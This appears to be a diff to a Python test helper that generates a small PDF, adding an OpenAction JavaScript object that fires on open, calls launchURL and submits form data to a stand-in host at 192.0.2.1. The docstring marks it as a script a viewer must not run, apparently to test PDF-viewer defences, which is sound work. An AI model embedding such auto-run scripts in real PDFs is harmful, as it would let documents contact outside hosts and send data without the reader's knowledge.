@@ -22,14 +22,15 @@ class Given:
 
 
 def pdf(title: str) -> bytes:
-    """One A5 page with a title and three grey lines."""
+    """One A5 page with a title and three grey lines, and a script that a viewer must not run: it would ask another host."""
     drawn = b"BT /F1 18 Tf 40 520 Td (" + title.encode("ascii") + b") Tj ET 0.8 g "
     drawn += b" ".join(b"40 %d 320 8 re f" % y for y in (480, 460, 440))
     objects = [
-        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
         b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn),
         b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+        b"<</S/JavaScript/JS(app.alert\\('run'\\);app.launchURL\\('http://192.0.2.1/'\\);this.submitForm\\('http://192.0.2.1/'\\);)>>",
     ]  # fmt: skip
     out, places = b"%PDF-1.4\n", []
     for number, body in enumerate(objects, 1):
